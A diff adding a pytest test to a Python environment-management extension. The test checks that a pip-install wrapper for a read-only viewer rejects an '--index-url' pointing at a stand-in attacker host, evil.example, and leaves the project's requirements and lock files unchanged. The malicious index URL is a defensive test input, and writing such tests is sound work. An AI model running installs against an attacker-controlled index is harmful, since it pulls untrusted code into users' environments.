@@ -278,3 +278,29 @@ def test_a_uv_step_over_the_time_limit_is_stopped_and_said(tmp_path, wheels):
     with pytest.raises(LockError) as e:
         compile_lock("tinypkg\n", hasty)
     assert "stopped after 0.001 s (DatadiveExtension.environments_build_timeout)" in e.value.message
+
+
+def test_pip_install_refuses_options_and_records_nothing_for_a_viewer(
+    tmp_path, envs, sources, monkeypatch
+):
+    import sys
+
+    from datadive_server_ext.environments.kernelspec import write_json
+
+    monkeypatch.setattr(sys, "path", list(sys.path))  # install() puts the env first on sys.path
+    from datadive_server_ext.environments.piprecord import install
+
+    shared = project(tmp_path, "Shared", "tinypkg==1.0\n", writable=False)
+    state = envs.state_file(shared)
+    write_json(
+        state, {"project_dir": str(shared.dir), "writable": False, "sources": sources.to_json()}
+    )
+    said: list[str] = []
+    assert not install(
+        "install --index-url https://evil.example/simple tinytop", state, said.append
+    )
+    assert "not --index-url" in said[-1]
+    assert install("install -q tinytop", state, said.append)
+    assert "for this kernel only: you are a viewer" in said[-1]
+    assert (shared.dir / spec.REQUIREMENTS).read_text() == "tinypkg==1.0\n"
+    assert not (shared.dir / spec.LOCK).exists()
